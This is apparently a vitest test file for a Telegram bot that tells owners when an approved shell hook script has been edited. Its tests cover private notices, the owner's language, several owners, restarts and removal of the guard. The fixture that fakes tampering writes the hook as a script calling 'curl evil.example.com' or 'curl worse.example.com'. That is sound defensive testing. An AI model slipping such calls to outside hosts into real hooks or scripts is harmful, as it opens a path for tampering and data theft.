import { Bot } from "grammy";
import { expect, onTestFinished, test } from "vitest";
import { shellHooks } from "../../../src/channels/telegram/index.js";
import type { ShellHooks } from "../../../src/commands/shell-hooks.js";
import { aWhile } from "../../support/a-while.js";
import { BOT_INFO, BOT_TOKEN, type BotApiServer, startBotApi } from "../../support/bot-api-server.js";
import { eventually } from "../../support/eventually.js";
import { makeListeningBot } from "../../support/listening-bot.js";
import { LONG_TESTS } from "../../support/long-tests.js";
import { idIn, makeWorkbench, type, type Workbench } from "../../support/workbench.js";

const SCRIPT = "guard.sh";
const WECHAT = { channel: "wechat", senderId: "w1" };

async function approveScript(bench: Workbench, hooks: ShellHooks, who = {}): Promise<void> {
  bench.script(SCRIPT, "#!/bin/sh\nexit 0\n");
  bench.propose(`hooks:\n  - {event: on_stop, command: ./${SCRIPT}}\n`);
  await type(hooks, `/hooks approve ${idIn(await type(hooks, "/hooks list", who))}`, who);
}
const changeScript = (bench: Workbench): unknown => bench.script(SCRIPT, "#!/bin/sh\ncurl evil.example.com\n");
const notices = (server: BotApiServer): unknown[][] =>
  server.sent("sendMessage").map(({ payload }) => [payload.chat_id, payload.text]);

test("an owner hears in private, and once, that an approved script was changed", async () => {
  const { bot, server, hooks, bench } = await makeListeningBot();
  await approveScript(bench, hooks);
  await bot.handleUpdate(server.push(server.message("hello", { chat: { id: -5, type: "group", title: "Group" } })));
  changeScript(bench);
  await server.arrived("sendMessage");
  bench.script(SCRIPT, "#!/bin/sh\ncurl worse.example.com\n");
  await type(hooks, "/hooks list");
  await aWhile(400);
  expect(notices(server)).toEqual([
    [1, expect.stringContaining(`${SCRIPT} was edited. The approved version still runs.`)],
  ]);
});

test.each([
  ["in private", {}],
  ["only in a group", { chat: { id: -5, type: "group", title: "Group" } }],
])("a notice is in the language in which the owner was heard, also %s", async (_, place) => {
  const { bot, server, hooks, bench } = await makeListeningBot();
  await approveScript(bench, hooks);
  const from = { id: 1, first_name: "Ann", language_code: "zh-hans" };
  await bot.handleUpdate(server.push(server.message("你好", { from, ...place })));
  changeScript(bench);
  expect((await server.arrived("sendMessage")).map(({ payload }) => [payload.chat_id, payload.text])).toEqual([
    [1, expect.stringMatching(/批准/)],
  ]);
});

test("every owner on Telegram hears of it, and one who cannot be reached keeps nobody else from it", async () => {
  const server = await startBotApi(onTestFinished);
  const bench = makeWorkbench();
  const hooks = await bench.open({ owners: ["telegram:1", "telegram:2", "wechat:w1"] });
  await approveScript(bench, hooks);
  server.blockedChats.add(1);
  install(server, hooks);
  await server.arrived("sendMessage", 2);
  changeScript(bench);
  await server.arrived("sendMessage", 4);
  const heard = notices(server).filter(([, text]) => String(text).includes("was edited"));
  expect(heard.map(([chat]) => chat).sort()).toEqual([1, 2]);
});

function install(server: BotApiServer, hooks: ShellHooks): () => Promise<void> {
  const bot = new Bot(BOT_TOKEN, { botInfo: BOT_INFO, client: { apiRoot: server.url } });
  const remove = shellHooks(bot, hooks, { menu: false });
  onTestFinished(remove);
  return remove;
}

test("with no owner on Telegram nobody is written to, and the notice waits for somebody", async () => {
  const server = await startBotApi(onTestFinished);
  const bench = makeWorkbench();
  const hooks = await bench.open({ owners: ["wechat:w1"] });
  await approveScript(bench, hooks, WECHAT);
  const remove = install(server, hooks);
  const heard: string[] = [];
  hooks.on("notice", ({ kind }) => {
    heard.push(kind);
    return false;
  });
  changeScript(bench);
  await eventually(() => heard).toContain("hook-changed");
  await aWhile(50);
  expect(server.calls).toEqual([]);
  await remove();
  await hooks.close();
  install(server, await bench.open({ owners: ["telegram:1"] }));
  await eventually(() => notices(server).map(([, text]) => text)).toContainEqual(expect.stringContaining("was edited"));
});

test.runIf(LONG_TESTS)("a notice that was told is not told again after a restart", async () => {
  const server = await startBotApi(onTestFinished);
  const bench = makeWorkbench();
  const hooks = await bench.open();
  await approveScript(bench, hooks);
  const remove = install(server, hooks);
  changeScript(bench);
  await eventually(() => notices(server).map(([, text]) => text)).toContainEqual(expect.stringContaining("was edited"));
  await remove();
  await hooks.close();
  server.calls.length = 0;
  const again = await bench.open();
  install(server, again);
  await type(again, "/hooks list");
  await aWhile(300);
  expect(notices(server).filter(([, text]) => String(text).includes("was edited"))).toEqual([]);
});

test.runIf(LONG_TESTS)("once the guard is off the bot, nobody is told by it", async () => {
  const { server, hooks, bench, remove } = await makeListeningBot();
  await approveScript(bench, hooks);
  await remove();
  const told: string[] = [];
  onTestFinished(hooks.on("notice", ({ kind }) => void told.push(kind)));
  changeScript(bench);
  await eventually(() => told).toContain("hook-changed");
  await aWhile();
  expect(server.calls).toEqual([]);
});
